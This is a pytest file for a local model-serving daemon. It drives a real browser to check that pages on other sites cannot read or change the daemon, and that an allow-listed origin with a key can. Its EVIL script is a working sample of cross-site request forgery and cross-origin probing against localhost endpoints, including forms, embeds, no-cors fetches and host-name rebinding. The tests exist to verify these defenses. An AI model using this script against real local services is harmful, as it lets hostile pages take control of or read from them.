"""What pages of other sites get out of a real browser: nothing, whatever they try; and all they need, where they are listed."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.browser import Pages, browsing, chromium
from tests.daemon import DEADLINE_S, Daemon, demo_config

KEY = "page-canary-0123456789abcdef"

# Each try has a path of its own, by which the daemon's log tells what became of it.
EVIL = """
const tried = {};
const attempt = async (name, doing) => { try { tried[name] = await doing() } catch (error) { tried[name] = error.name } };
const read = async (path, init) => { const answer = await fetch(DAEMON + path, init); return await answer.text() };
const loaded = (element, start) => new Promise((resolve) => { element.onload = () => resolve("load"); start() });
const embed = (tag, name, value) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve("load");
    element.onerror = () => resolve("error");
    element[name] = value;
    document.body.append(element);
});
const json = {"Content-Type": "application/json"};
(async () => {
    await attempt("read", () => read("/status"));
    await attempt("switch", () => read("/switch", {method: "POST", headers: json, body: '{"model_id": "demo-calc"}'}));
    await attempt("delete", () => read("/quarantine/x", {method: "DELETE"}));
    await attempt("blind text", () => read("/unload", {method: "POST", mode: "no-cors", body: "{}"}));
    await attempt("image", () => embed("img", "src", DAEMON + "/models"));
    await attempt("script", () => embed("script", "src", DAEMON + "/props"));
    await attempt("style", () => {
        const link = embed("link", "href", DAEMON + "/v1/models");
        document.body.lastChild.rel = "stylesheet";
        return link;
    });
    await attempt("events", () => new Promise((resolve) => {
        const source = new EventSource(DAEMON + "/events");
        source.onopen = () => resolve("open");
        source.onerror = () => { source.close(); resolve("error") };
    }));
    const frame = document.createElement("iframe");
    frame.name = "frame";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", action: DAEMON + "/reload", target: "frame"});
    document.body.append(form);
    await attempt("form", () => loaded(frame, () => form.submit()));
    await attempt("frame", () => loaded(frame, () => { frame.src = DAEMON + "/v1/models/x" }));
    await fetch("/told", {method: "POST", body: JSON.stringify(tried)});
    location.href = DAEMON + "/ops";
})();
"""

LISTED = """
const tried = {};
const asked = (path, init = {}) => fetch(DAEMON + path, {...init, headers: {Authorization: "Bearer " + KEY, ...init.headers}});
const json = {"Content-Type": "application/json", "x-stainless-lang": "js"};  // OpenAI's client sends more of the latter kind
const post = (body) => ({method: "POST", headers: json, body: JSON.stringify(body)});
(async () => {
    try {
        const status = await asked("/status", {headers: {"X-Request-Id": "from-a-page"}});
        tried.status = [status.status, status.headers.get("x-request-id"), status.headers.get("etag") !== null];
        const streamed = await asked("/v1/completions", post({prompt: "One day", max_tokens: 5, stream: true}));
        tried.stream = [streamed.status, (await streamed.text()).endsWith("data: [DONE]\\n\\n")];
        const events = (await asked("/events", {headers: {"Last-Event-ID": "unknown"}})).body.getReader();
        tried.events = new TextDecoder().decode((await events.read()).value).includes("event: resync");
        await events.cancel();
        const denied = await asked("/switch", post({model_id: "demo-calc"}));
        tried.denied = [denied.status, (await denied.json()).error.code];
        tried.gone = (await asked("/quarantine/x", {method: "DELETE"})).status;
        tried.stranger = (await fetch(DAEMON + "/status")).status;
    } catch (error) {
        tried.error = String(error);
    }
    await fetch("/told", {method: "POST", body: JSON.stringify(tried)});
})();
"""


@pytest.fixture
def pages() -> Iterator[Pages]:
    pages = Pages()
    yield pages
    pages.close()


def test_a_page_of_another_site_gets_and_changes_nothing(tmp_path: Path, pages: Pages) -> None:
    with Daemon(demo_config(tmp_path)) as daemon:
        daemon.wait_line(lambda line: line["msg"] == "model ready")
        pages.script = EVIL.replace("DAEMON", json.dumps(daemon.url))
        with browsing(tmp_path, f"http://evil.example:{pages.port}/"):
            tried = pages.told()
            assert tried == {
                "read": "TypeError",
                "switch": "TypeError",
                "delete": "TypeError",
                "blind text": "TypeError",
                "image": "error",
                "script": "error",
                "style": "error",
                "events": "error",
                "form": "load",  # of what the browser shows in place of the answer
                "frame": "load",
            }

            def status_of(method: str, route: str) -> int:
                return int(daemon.wait_line(lambda line: (line.get("method"), line.get("route")) == (method, route))["status"])

            for asked in (
                "GET /status",
                "OPTIONS /switch",
                "OPTIONS /quarantine/{model_id}",
                "POST /unload",
                "GET /models",
                "GET /props",
            ):
                assert status_of(*asked.split()) == 403, asked
            for asked in ("GET /v1/models", "GET /events", "POST /reload", "GET /v1/models/{model_id}"):
                assert status_of(*asked.split()) == 403, asked
            assert status_of("GET", "/ops") == 200, "a link that is followed"
        sent = {(line.get("method"), line.get("route")) for line in daemon.lines}
        assert not {("POST", "/switch"), ("DELETE", "/quarantine/{model_id}")} & sent, "the preflight was refused"
        assert (daemon.get("/status")["current_model"], daemon.get("/status")["generation"]) == ("demo-stories", 1)


def test_a_name_that_is_rebound_to_this_host_is_no_name_of_ours(tmp_path: Path) -> None:
    with Daemon(demo_config(tmp_path)) as daemon:
        for name, said in (("evil.example", "host_not_allowed"), ("modeld.localhost", '"state"')):
            command = chromium(tmp_path, "--dump-dom", f"http://{name}:{daemon.port}/status")
            shown = subprocess.run(command, capture_output=True, text=True, timeout=DEADLINE_S, check=True).stdout
            assert said in shown


def test_a_listed_site_can_use_all_that_its_key_may(tmp_path: Path, pages: Pages) -> None:
    config = demo_config(tmp_path)
    site = f"http://app.example:{pages.port}"
    config.write_text(config.read_text().replace("port: 0}", f"port: 0, api_key_file: keys, cors_origins: ['{site}']}}"))
    (tmp_path / "keys").touch(0o600)
    (tmp_path / "keys").write_text(f"page use {KEY}")
    with Daemon(config) as daemon:
        daemon.wait_line(lambda line: line["msg"] == "model ready")
        pages.script = LISTED.replace("DAEMON", json.dumps(daemon.url)).replace("KEY", json.dumps(KEY))
        with browsing(tmp_path, f"{site}/"):
            assert pages.told() == {
                "status": [200, "from-a-page", True],
                "stream": [200, True],
                "events": True,
                "denied": [403, "permission_denied"],
                "gone": 403,
                "stranger": 401,
            }
